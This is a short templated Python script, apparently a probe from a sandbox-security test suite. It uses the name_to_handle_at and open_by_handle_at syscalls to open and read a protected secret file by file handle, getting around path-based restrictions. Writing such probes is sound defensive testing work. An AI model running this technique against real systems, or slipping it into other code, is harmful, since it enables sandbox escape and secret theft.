{{TOOLS}}
def by_handle(path):
    struct, ctypes, os = module("struct"), module("ctypes"), module("os")
    handle, mount = ctypes.create_string_buffer(struct.pack("Ii", 120, 0), 128), ctypes.c_int()
    syscall("name_to_handle_at", -100, path, handle, ctypes.byref(mount), 0)
    folder = os.open(os.path.dirname(path), 0)
    return os.read(syscall("open_by_handle_at", folder, handle, 0), 40)


attempt(
    lambda: by_handle(b"{{SECRET}}"),
)
